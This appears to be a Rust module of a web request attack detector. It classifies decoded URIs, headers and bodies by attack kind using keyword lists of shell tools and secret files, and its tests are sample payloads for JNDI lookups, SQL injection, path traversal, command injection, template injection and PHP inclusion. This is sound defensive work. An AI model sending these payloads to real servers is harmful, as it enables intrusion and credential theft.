//! What attacks look like once they are decoded: lower case, single blanks.

/// Kinds of attacks; the order is that of their names in findings of equal weight.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Attack {
    Lookup,
    Shellshock,
    Command,
    Expression,
    Inclusion,
    WebShell,
    Traversal,
    Sql,
    Entity,
    Script,
    Secret,
    Scanner,
}

impl Attack {
    /// What it is, as the end of "tries".
    pub(super) const fn words(self) -> &'static str {
        match self {
            Attack::Lookup => "look-ups in what is logged (JNDI)",
            Attack::Shellshock => "functions of a shell in headers (Shellshock)",
            Attack::Command => "commands of the system",
            Attack::Expression => "expressions that the server evaluates",
            Attack::Inclusion => "code that the server includes",
            Attack::WebShell => "a web shell",
            Attack::Traversal => "paths that climb out of the site",
            Attack::Sql => "SQL in its values",
            Attack::Entity => "entities of XML that read files",
            Attack::Script => "scripts in its values",
            Attack::Secret => "files that hold secrets",
            Attack::Scanner => "a scanner of weaknesses",
        }
    }

    /// Why that is an attack, and what it may be instead.
    pub(super) const fn meaning(self) -> &'static str {
        match self {
            Attack::Lookup => "logging it makes a server fetch code; nobody writes this by mistake",
            Attack::Shellshock => "a function definition with something behind it is run by old shells",
            Attack::Command => "the name of a program behind a separator of commands",
            Attack::Expression => "calls into the language behind a template",
            Attack::Inclusion => "settings or streams of PHP that make it run what is sent",
            Attack::WebShell => "a command as the value of a page",
            Attack::Traversal => {
                "above the site's folder lie the system's files; broken links climb, too, but not to them"
            }
            Attack::Sql => {
                "parts of a query where a value belongs; pages about SQL have such values in searches"
            }
            Attack::Entity => "an external entity is a file or an address that the server reads",
            Attack::Script => "a script where a value belongs is run by the next reader",
            Attack::Secret => "keys and passwords that were left where pages are; no page links to them",
            Attack::Scanner => "the program says itself what it is",
        }
    }

    /// The technique.
    pub(super) const fn technique(self) -> &'static str {
        match self {
            Attack::WebShell => "T1505.003",
            Attack::Scanner | Attack::Secret => "T1595.002",
            _ => "T1190",
        }
    }

    /// Whether it runs something on the server when it works.
    pub(super) const fn runs(self) -> bool {
        matches!(
            self,
            Attack::Lookup
                | Attack::Shellshock
                | Attack::Command
                | Attack::Expression
                | Attack::Inclusion
                | Attack::WebShell
        )
    }
}

/// Where a value stood.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Place {
    Uri,
    /// The URI as sent, with its dots.
    Climbing,
    Header,
    Body,
}

/// An attack that was found.
#[derive(Debug, Clone, Copy, PartialEq)]
pub(super) struct Hit {
    pub(super) attack: Attack,
    /// In log-odds.
    pub(super) weight: f64,
}

impl Hit {
    /// Stands for none.
    pub(super) const NOTHING: Hit = Hit { attack: Attack::Scanner, weight: 0.0 };
}

/// Whether a value as sent is worth decoding: most are not.
pub(super) fn may_attack(text: &str, place: Place) -> bool {
    let mark = match place {
        Place::Header => marks::HEADER,
        Place::Climbing => marks::CLIMBING,
        Place::Uri => marks::URI,
        Place::Body => return !text.is_empty(),
    };
    let found = text.bytes().fold(0, |found, byte| found | marks::OF[usize::from(byte)]);
    found & mark != 0
        || (place == Place::Header && found & marks::BRACE != 0 && text.contains("() {"))
        || (place == Place::Uri && secret(text) > 0.0)
}

/// Letters without which no attack is written, by place.
mod marks {
    pub(super) const HEADER: u8 = 1;
    pub(super) const CLIMBING: u8 = 2;
    pub(super) const URI: u8 = 4;
    pub(super) const BRACE: u8 = 8;

    /// What each letter marks.
    pub(super) const OF: [u8; 256] = {
        let mut of = [0; 256];
        let lists: [(u8, &[u8]); 4] =
            [(HEADER, b"$<"), (CLIMBING, b".%"), (URI, b"?%${<';|\\"), (BRACE, b"{")];
        let mut list = 0;
        while list < lists.len() {
            let (mark, letters) = lists[list];
            let mut at = 0;
            while at < letters.len() {
                of[letters[at] as usize] |= mark;
                at += 1;
            }
            list += 1;
        }
        of
    };
}

/// The plainest attack in a decoded value.
pub(super) fn best(text: &str, place: Place) -> Option<Hit> {
    // Most values are plain: words, numbers and the marks between them.
    if !text.bytes().any(|byte| b"'\"<>(){}$;|`\\ .@!#*".contains(&byte)) {
        return None;
    }
    let found = match place {
        Place::Header => vec![
            (Attack::Lookup, lookup(text)),
            (Attack::Shellshock, shellshock(text)),
            (Attack::Expression, expression(text)),
            (Attack::Script, script(text, true)),
        ],
        Place::Climbing => vec![(Attack::Traversal, climbing(text))],
        Place::Uri | Place::Body => {
            // A path is not a value, except for what climbs; bodies are values whole.
            let query =
                if place == Place::Uri { text.split_once('?').map_or("", |(_, query)| query) } else { text };
            vec![
                (Attack::Lookup, lookup(text)),
                (Attack::Command, command(query)),
                (Attack::Expression, expression(text)),
                (Attack::Inclusion, inclusion(text)),
                (Attack::WebShell, web_shell(text)),
                (Attack::Traversal, files(query)),
                (Attack::Sql, sql(query)),
                (Attack::Entity, entity(text)),
                (Attack::Script, script(text, false)),
                (Attack::Secret, if place == Place::Uri { secret(text) } else { 0.0 }),
            ]
        }
    };
    let hits = found.into_iter().filter(|(_, weight)| *weight > 0.0);
    hits.map(|(attack, weight)| Hit { attack, weight }).reduce(|a, b| if b.weight > a.weight { b } else { a })
}

fn any(text: &str, parts: &[&str]) -> bool {
    parts.iter().any(|part| text.contains(part))
}

/// Whether the words come in this order, each at most `apart` bytes behind the one before.
fn in_order(text: &str, words: [&str; 2], apart: usize) -> bool {
    text.match_indices(words[0]).any(|(at, word)| {
        let rest = text.get(at + word.len()..).unwrap_or_default();
        rest.find(words[1]).is_some_and(|place| place <= apart)
    })
}

/// Files in which programs keep keys and passwords, and from which whole sources can be fetched.
fn secret(uri: &str) -> f64 {
    const FILES: [&str; 13] = [
        "/.env",
        "/.git/config",
        "/.git/head",
        "/.svn/entries",
        "/.svn/wc.db",
        "/.aws/credentials",
        "/.ssh/id_rsa",
        "/id_rsa",
        "/.htpasswd",
        "/.npmrc",
        "/.docker/config.json",
        "/.bash_history",
        "/.vscode/sftp.json",
    ];
    const COPIES: [&str; 5] = [".bak", ".old", ".save", ".swp", "~"];
    let path = uri.split('?').next().unwrap_or_default();
    // Few paths have any of these letters behind a slash.
    if !path.as_bytes().windows(2).any(|pair| pair[0] == b'/' && matches!(pair[1], b'.' | b'i' | b'w')) {
        return 0.0;
    }
    let Some(at) =
        path.rfind("/.").or_else(|| path.rfind("/id_rsa")).or_else(|| path.rfind("/wp-config.php"))
    else {
        return 0.0;
    };
    let path = path.to_ascii_lowercase();
    let environment = path.get(at..).is_some_and(|name| name.starts_with("/.env."));
    let copy = path.contains("/wp-config.php") && COPIES.iter().any(|ending| path.ends_with(ending));
    if environment || copy || FILES.iter().any(|file| path.ends_with(file)) { 4.2 } else { 0.0 }
}

/// Look-ups of Log4j, also when their letters are hidden in others (`${${lower:j}ndi:`).
fn lookup(text: &str) -> f64 {
    let hidden = text.matches("${").count() >= 2
        && any(text, &["${lower:", "${upper:", "${env:", "${::-", "${sys:", ":-j}", ":-n}"]);
    if text.contains("${jndi:") || (hidden && text.contains(':')) { 5.5 } else { 0.0 }
}

fn shellshock(text: &str) -> f64 {
    if text.contains("() {") && text.contains(';') { 5.5 } else { 0.0 }
}

/// Programs that a command begins with.
const PROGRAMS: [&str; 28] = [
    "id",
    "cat",
    "ls",
    "wget",
    "curl",
    "nc",
    "ncat",
    "bash",
    "sh",
    "powershell",
    "cmd",
    "whoami",
    "ping",
    "uname",
    "chmod",
    "echo",
    "tftp",
    "busybox",
    "python",
    "perl",
    "php",
    "ifconfig",
    "ipconfig",
    "netstat",
    "rm",
    "cd",
    "nslookup",
    "sleep",
];

/// A separator of commands with the name of a program behind it.
fn command(text: &str) -> f64 {
    if any(text, &["/bin/sh", "/bin/bash", "cmd.exe", "powershell -", "/bin/busybox"]) {
        return 4.6;
    }
    for separator in [";", "|", "`", "$(", "&&", "||"] {
        for (at, mark) in text.match_indices(separator) {
            let rest = text.get(at + mark.len()..).unwrap_or_default().trim_start();
            let word: &str =
                rest.split(|letter: char| !letter.is_ascii_alphanumeric()).next().unwrap_or_default();
            let behind = rest.get(word.len()..).unwrap_or_default();
            let argument = behind.starts_with([' ', ';', '|', '`', ')', '$']) || behind.is_empty();
            // `;id=5` is a parameter.
            if PROGRAMS.contains(&word) && argument && !behind.starts_with(" =") {
                return if behind.trim().is_empty() && separator == ";" { 3.4 } else { 4.4 };
            }
        }
    }
    0.0
}

/// Calls into the language behind a template.
fn expression(text: &str) -> f64 {
    let opened = text.contains(['{', '%']) && any(text, &["${", "#{", "%{", "{{", "<%", "*{"]);
    let calls = || {
        let calls = [
            "freemarker",
            "getruntime",
            "java.lang",
            "processbuilder",
            "t(java",
            "@java",
            "ognl",
            "__class__",
            "__import__",
            "__globals__",
            "self.env",
            "exec(",
            "system(",
            "popen(",
            "?new()",
            "class.forname",
            "getclass(",
            "#_memberaccess",
            "scriptengine",
        ];
        any(text, &calls)
    };
    match opened {
        true if calls() => 5.0,
        true if any(text, &["{{7*7", "${7*7", "#{7*7", "{{config", "{{request"]) => 4.4,
        _ if any(text, &["java.lang.runtime", "class.module.classloader", "#_memberaccess"]) => 4.6,
        _ => 0.0,
    }
}

fn inclusion(text: &str) -> f64 {
    let plain = [
        "php://input",
        "php://filter",
        "auto_prepend_file",
        "allow_url_include",
        "data://text",
        "expect://",
        "phar://",
    ];
    let code = text.contains('<')
        && any(text, &["<?php", "<%eval", "<%@ page"])
        && any(text, &["eval(", "system(", "exec(", "passthru(", "assert(", "runtime"]);
    let remote = in_order(text, ["=http://", ".txt?"], 100) || in_order(text, ["=http://", "/cmd"], 100);
    match () {
        () if any(text, &plain) => 4.6,
        () if code => 4.8,
        () if remote => 3.8,
        () => 0.0,
    }
}

/// A page with a command as its value.
fn web_shell(text: &str) -> f64 {
    let page = any(text, &[".php?", ".jsp?", ".jspx?", ".aspx?", ".asp?", ".cfm?"]);
    if !page {
        return 0.0;
    }
    let commands = [
        "whoami",
        "id",
        "ls",
        "dir",
        "ipconfig",
        "ifconfig",
        "uname",
        "cat ",
        "net user",
        "pwd",
        "systeminfo",
        "tasklist",
    ];
    let given =
        ["?cmd=", "&cmd=", "?c=", "?exec=", "&exec=", "?command=", "?x=", "?e=", "?pass=", "&command="]
            .iter()
            .any(|name| {
                text.match_indices(name).any(|(at, mark)| {
                    let value = text.get(at + mark.len()..).unwrap_or_default();
                    commands.iter().any(|command| {
                        value.strip_prefix(command).is_some_and(|rest| {
                            rest.is_empty()
                                || command.ends_with(' ')
                                || rest.starts_with([' ', '&', ';', '|'])
                        })
                    })
                })
            });
    if given { 4.8 } else { 0.0 }
}

/// Files of the system that a value names.
fn files(text: &str) -> f64 {
    let known = [
        "etc/passwd",
        "etc/shadow",
        "win.ini",
        "boot.ini",
        "proc/self/",
        "system32/",
        "web-inf/web.xml",
        "etc/hosts",
    ];
    let climbs = text.matches("../").count() + text.matches("..\\").count();
    match climbs {
        _ if (climbs > 0 || any(text, &["=/", "=c:", "=file:"])) && any(text, &known) => 4.8,
        3.. => 4.2,
        _ => 0.0,
    }
}

/// Dots in the path as sent: how often they climb, and how they hide it.
fn climbing(decoded: &str) -> f64 {
    let path = decoded.split(['?', '#']).next().unwrap_or_default();
    let climbs = path.matches("../").count() + path.matches("..\\").count() + path.matches("/..").count() / 2;
    let files = any(
        path,
        &["etc/passwd", "win.ini", "boot.ini", "bin/sh", "bin/bash", "cmd.exe", "system32", "proc/self"],
    );
    // What climbs above the site's own folder is no link of the site.
    let mut depth = 0_i32;
    let above = path.split(['/', '\\']).filter(|part| !part.is_empty() && *part != ".").any(|part| {
        depth += if part == ".." { -1 } else { 1 };
        depth < 0
    });
    match (files && climbs > 0, above, climbs) {
        (true, ..) => 5.0,
        (false, true, 2..) => 4.4,
        (false, true, _) => 2.0,
        _ => 0.0,
    }
}

/// Parts of a query where a value belongs.
fn sql(text: &str) -> f64 {
    let certain = [
        "information_schema",
        "xp_cmdshell",
        "into outfile",
        "into dumpfile",
        "load_file(",
        "waitfor delay",
        "benchmark(",
        "pg_sleep(",
        "extractvalue(",
        "updatexml(",
        "group_concat(",
        "@@version",
        "dbms_pipe",
        "sysobjects",
        "utl_http",
    ];
    let likely = [
        "select * from",
        "drop table",
        "insert into",
        "delete from",
        "order by 1--",
        "having 1=1",
        "/*select",
        "char(",
        "concat(",
    ];
    match () {
        () if any(text, &certain) || joined(text) => 4.6,
        () if in_order(text, ["select ", " from "], 200)
            && any(text, &["'", "(", "--", ",", " where ", " limit "]) =>
        {
            4.3
        }
        () if tautology(text) => 4.3,
        () if any(text, &likely) && any(text, &["'", "--", "=-", "("]) => 3.4,
        () if any(text, &["[select]", "select * from"]) => 4.2,
        () if quoted(text) => 2.0,
        () => 0.0,
    }
}

/// `union select` that is no part of a sentence: something ends a value before it, or a list of columns follows.
fn joined(text: &str) -> bool {
    text.match_indices("union").any(|(at, word)| {
        let before = text.get(..at).unwrap_or_default().trim_end();
        let rest = text.get(at + word.len()..).unwrap_or_default();
        let Some(place) = rest.find("select").filter(|place| *place <= SELECT_APART) else { return false };
        let behind = rest.get(place + "select".len()..).unwrap_or_default();
        before.ends_with(['\'', '"', ')', '-', '\\', '0', '1', '2', '3', '4', '5', '6', '7', '8', '9'])
            || any(behind, &[",", "(", "*", "@", " from ", "null"])
    })
}

/// Bytes between `union` and `select`, for `all`, brackets and blanks.
const SELECT_APART: usize = 12;

/// `or 1=1`, `and 'a'='a`, `and 1=0`: a comparison of two constants.
fn tautology(text: &str) -> bool {
    ["or ", "and ", "or(", "and("].iter().any(|word| {
        text.match_indices(word).any(|(at, mark)| {
            let before = text.get(..at).and_then(|text| text.chars().next_back());
            let rest = text.get(at + mark.len()..).unwrap_or_default();
            before.is_some_and(|letter| !letter.is_ascii_alphanumeric()) && compares_constants(rest)
        })
    })
}

fn compares_constants(text: &str) -> bool {
    let text = text.trim_start_matches(['(', ' ', '\'', '"']);
    let Some((left, right)) = text.split_once('=') else { return false };
    let left = left.trim_matches([' ', '\'', '"', ')', '(', '>', '<']);
    let right = right.trim_start_matches([' ', '\'', '"', '(']);
    let right: String = right.chars().take_while(char::is_ascii_alphanumeric).collect();
    let constant = |word: &str| {
        !word.is_empty() && word.len() <= 8 && word.bytes().all(|byte| byte.is_ascii_alphanumeric())
    };
    let digits = |word: &str| word.bytes().all(|byte| byte.is_ascii_digit());
    // A function of the database on the left is as plain as two numbers.
    let function = (left.contains('(') || left.contains("@@")) && digits(&right) && !right.is_empty();
    function || (constant(left) && constant(&right) && (digits(left) && digits(&right) || left == right))
}

/// A quote that ends a number or a word, and a comment behind it.
fn quoted(text: &str) -> bool {
    text.contains('\'') && any(text, &["--", "#", ";"])
}

fn entity(text: &str) -> f64 {
    let declared = text.contains("<!entity") || (text.contains("<!doctype") && text.contains("[<!"));
    match declared {
        true if any(text, &["system", "public"]) => 4.8,
        _ => 0.0,
    }
}

/// A script where a value belongs.
fn script(text: &str, header: bool) -> f64 {
    let tag = text.contains('<') && any(text, &["<script", "<img src=", "<svg", "<iframe", "<body onload"]);
    let runs = || {
        let runs = [
            "alert(",
            "document.cookie",
            "prompt(",
            "confirm(",
            "eval(",
            "onerror=",
            "onload=",
            "string.fromcharcode",
            "src=http",
        ];
        any(text, &runs)
    };
    match tag {
        true if runs() => 4.4,
        true if !header && text.contains("</script") => 4.2,
        true => 3.2,
        false if any(text, &["\"onmouseover", "javascript:", "' onerror=", "\" onerror="]) && runs() => 4.2,
        false => 0.0,
    }
}

#[cfg(test)]
mod tests {
    use super::super::decode::decoded;
    use super::*;

    fn found(uri: &str) -> Option<(Attack, bool)> {
        best(&decoded(uri), Place::Uri).map(|hit| (hit.attack, hit.weight >= 4.2))
    }

    #[test]
    fn attacks_are_recognised_whatever_their_spelling() {
        for (uri, attack) in [
            ("/p.php?id=1'+UNION+SELECT+1,2,3", Attack::Sql),
            ("/p.php?id=1%27%20uNiOn%2f**%2fall%20SeLeCt%201", Attack::Sql),
            ("/a.asp?catid=0+and+1=0", Attack::Sql),
            ("/a?id=2 and substring(@@version,1,1)=4", Attack::Sql),
            ("/login?u=x'%20or%20'a'='a", Attack::Sql),
            ("/view?f=../../../../etc/passwd", Attack::Traversal),
            ("/ping?host=1.2.3.4;cat%20/tmp/x", Attack::Command),
            ("/x?q=${jndi:ldap://203.0.113.9/a}", Attack::Lookup),
            ("/x?q=$%7B$%7Blower:j%7Dndi:ldap://203.0.113.9/a%7D", Attack::Lookup),
            ("/v?x=${\"freemarker.template.utility.Execute\"?new()(\"id\")}", Attack::Expression),
            ("/s.php?cmd=whoami", Attack::WebShell),
            ("/q?lang=English<script>alert(1)</script>", Attack::Script),
            ("/.env", Attack::Secret),
            ("/app/.env.production", Attack::Secret),
            ("/.git/config", Attack::Secret),
            ("/wp-config.php.bak", Attack::Secret),
            ("/i.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", Attack::Inclusion),
        ] {
            assert_eq!(found(uri), Some((attack, true)), "{uri}");
        }
    }

    #[test]
    fn plain_requests_hold_nothing() {
        for uri in [
            "/search?q=western+union+select+a+branch+office",
            "/search?q=how+to+select+a+wine+from+france",
            "/news?title=the+king's+speech",
            "/a;jsessionid=12?id=5",
            "/calc?f=(a+b)*c",
            "/doc/../img/logo.png",
            "/q?filter=price%3E5&sort=asc|desc",
            "/api?expr={name}",
            "/.well-known/acme-challenge/x",
            "/docs/.env-files.html",
            "/p?x=1&y=2&redirect=https://www.example/?a=1",
        ] {
            assert!(found(uri).is_none_or(|(_, plain)| !plain), "{uri}: {:?}", found(uri));
        }
    }

    #[test]
    fn climbing_is_told_from_links() {
        let climbing = |path| best(&decoded(path), Place::Climbing).map_or(0.0, |hit| hit.weight);
        assert!(climbing("/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh") >= 4.2);
        assert!(climbing("/a/..%252f..%252f..%252fetc/passwd") >= 4.2);
        assert_eq!(climbing("/docs/../images/logo.png"), 0.0);
        assert_eq!(climbing("/a..b/c%2eexe"), 0.0);
    }
}
